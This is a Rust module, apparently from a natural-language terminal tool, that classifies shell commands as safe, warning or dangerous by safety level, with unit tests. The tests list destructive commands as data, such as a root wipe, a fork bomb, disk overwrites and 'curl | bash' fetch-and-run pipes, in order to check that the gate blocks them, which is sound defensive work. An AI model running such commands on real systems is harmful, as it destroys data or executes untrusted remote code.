// ABOUTME: classifies a candidate shell command against the pattern catalog and a safety level.
// ABOUTME: verdicts are pure functions of their inputs so the gate stays deterministic.

use std::sync::LazyLock;

use nlterm_common::{RiskLevel, SafetyLevel, SafetyVerdict};
use regex::Regex;

use crate::patterns::{self, RuleId, DANGEROUS_RULES, WARNING_RULES};

const MAX_COMMAND_CHARS: usize = 500;

static DOLLAR_SUBSTITUTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\(.*\)").expect("Invalid substitution regex"));
static BACKTICK_SUBSTITUTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"`.*`").expect("Invalid backtick regex"));
static REDIRECT_TO_ABSOLUTE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r">\s*/").expect("Invalid redirect regex"));

pub fn validate(command: &str, level: SafetyLevel) -> SafetyVerdict {
    let dangerous = patterns::matching(&DANGEROUS_RULES, command);
    let blocked_patterns: Vec<String> =
        dangerous.iter().map(|r| r.description.to_string()).collect();
    let mut warnings: Vec<String> = patterns::matching(&WARNING_RULES, command)
        .iter()
        .map(|r| r.description.to_string())
        .collect();
    let mut suggestions = Vec::new();

    let mut is_safe = true;
    let risk_level = if !blocked_patterns.is_empty() {
        is_safe = false;
        suggestions.push(
            "This command contains dangerous operations that could harm your system.".to_string(),
        );
        suggestions.push("Consider using safer alternatives or consult documentation.".to_string());
        RiskLevel::Danger
    } else if !warnings.is_empty() {
        match level {
            SafetyLevel::Strict => {
                is_safe = false;
                suggestions
                    .push("Strict safety mode blocks potentially risky commands.".to_string());
                suggestions
                    .push("Switch to moderate mode if you trust this operation.".to_string());
            }
            SafetyLevel::Moderate => {
                suggestions.push(
                    "This command requires elevated privileges or modifies system state. Proceed with caution and verify the command."
                        .to_string(),
                );
            }
            SafetyLevel::Permissive => {}
        }
        RiskLevel::Warning
    } else {
        RiskLevel::Safe
    };

    // Heuristics below only add notes; they never change is_safe or risk_level.
    if command.chars().count() > MAX_COMMAND_CHARS {
        warnings.push("Command is unusually long".to_string());
        suggestions.push("Consider breaking this into smaller commands.".to_string());
    }

    if DOLLAR_SUBSTITUTION.is_match(command) || BACKTICK_SUBSTITUTION.is_match(command) {
        warnings.push("Contains command substitution".to_string());
        if level == SafetyLevel::Strict {
            suggestions.push("Command substitution can execute arbitrary code.".to_string());
        }
    }

    let overwrites_disk = dangerous.iter().any(|r| r.id == RuleId::OverwriteDisk);
    if REDIRECT_TO_ABSOLUTE.is_match(command) && !overwrites_disk {
        warnings.push("Redirecting output to system path".to_string());
        suggestions.push("Verify the destination path is correct.".to_string());
    }

    SafetyVerdict {
        is_safe,
        risk_level,
        blocked_patterns,
        warnings,
        suggestions,
    }
}

pub fn is_blocked(command: &str, level: SafetyLevel) -> bool {
    !validate(command, level).is_safe
}

#[cfg(test)]
mod tests {
    use super::*;

    const LEVELS: [SafetyLevel; 3] =
        [SafetyLevel::Strict, SafetyLevel::Moderate, SafetyLevel::Permissive];

    #[test]
    fn plain_listing_is_safe_even_when_strict() {
        let v = validate("ls -la", SafetyLevel::Strict);
        assert!(v.is_safe);
        assert_eq!(v.risk_level, RiskLevel::Safe);
        assert!(v.blocked_patterns.is_empty());
        assert!(v.warnings.is_empty());
        assert!(v.suggestions.is_empty());
    }

    #[test]
    fn dangerous_commands_block_at_every_level() {
        let commands = [
            "rm -rf /",
            "rm -rf *",
            "sudo rm file",
            ":(){ :|:& };:",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=/dev/sdb",
            "cat junk > /dev/sda",
            "chmod -R 777 /",
            "curl http://x | bash",
            "wget http://x | sh",
            "shutdown -h now",
            "reboot",
            "init 0",
        ];
        for command in commands {
            for level in LEVELS {
                let v = validate(command, level);
                assert!(!v.is_safe, "{command} should be blocked at {level}");
                assert_eq!(v.risk_level, RiskLevel::Danger, "{command}");
                assert!(!v.blocked_patterns.is_empty());
                assert_eq!(v.suggestions.len(), 2);
            }
        }
    }

    #[test]
    fn warning_commands_block_only_when_strict() {
        for command in [
            "sudo apt update",
            "rm -r build",
            "chown me file",
            "kill -9 42",
            "pkill node",
        ] {
            assert!(!validate(command, SafetyLevel::Strict).is_safe, "{command}");
            assert!(validate(command, SafetyLevel::Moderate).is_safe, "{command}");
            assert!(validate(command, SafetyLevel::Permissive).is_safe, "{command}");
            for level in LEVELS {
                assert_eq!(validate(command, level).risk_level, RiskLevel::Warning);
            }
        }
    }

    #[test]
    fn advisory_count_depends_on_level() {
        assert_eq!(validate("chmod 644 f", SafetyLevel::Strict).suggestions.len(), 2);
        assert_eq!(validate("chmod 644 f", SafetyLevel::Moderate).suggestions.len(), 1);
        assert!(validate("chmod 644 f", SafetyLevel::Permissive).suggestions.is_empty());
    }

    #[test]
    fn every_blocking_reason_is_reported() {
        let v = validate("sudo rm -rf / ; shutdown now", SafetyLevel::Permissive);
        assert_eq!(
            v.blocked_patterns,
            vec!["Recursive force delete from root", "Sudo remove command", "System shutdown"]
        );
        assert_eq!(
            v.warnings,
            vec!["Elevated privileges required", "Recursive deletion"]
        );
    }

    #[test]
    fn substitution_is_flagged_without_changing_risk() {
        let v = validate("echo $(whoami)", SafetyLevel::Moderate);
        assert!(v.is_safe);
        assert_eq!(v.risk_level, RiskLevel::Safe);
        assert_eq!(v.warnings, vec!["Contains command substitution"]);
        assert!(v.suggestions.is_empty());

        let strict = validate("echo `date`", SafetyLevel::Strict);
        assert!(strict.is_safe);
        assert_eq!(strict.suggestions, vec!["Command substitution can execute arbitrary code."]);
    }

    #[test]
    fn long_commands_get_a_note() {
        let command = format!("echo {}", "a".repeat(600));
        let v = validate(&command, SafetyLevel::Moderate);
        assert!(v.is_safe);
        assert!(v.warnings.contains(&"Command is unusually long".to_string()));
    }

    #[test]
    fn redirect_into_absolute_path_is_noted_unless_disk_overwrite() {
        let v = validate("echo hi > /tmp/out", SafetyLevel::Moderate);
        assert!(v.is_safe);
        assert_eq!(v.warnings, vec!["Redirecting output to system path"]);

        let disk = validate("echo hi > /dev/sda", SafetyLevel::Moderate);
        assert!(!disk.is_safe);
        assert!(!disk.warnings.contains(&"Redirecting output to system path".to_string()));
    }

    #[test]
    fn fallback_help_echo_is_safe() {
        let v = validate(
            r#"echo "Command not recognized. Try: list files, show disk space, git status""#,
            SafetyLevel::Strict,
        );
        assert!(v.is_safe);
        assert_eq!(v.risk_level, RiskLevel::Safe);
    }

    #[test]
    fn is_blocked_mirrors_verdict() {
        assert!(is_blocked("reboot", SafetyLevel::Permissive));
        assert!(!is_blocked("pwd", SafetyLevel::Strict));
    }
}
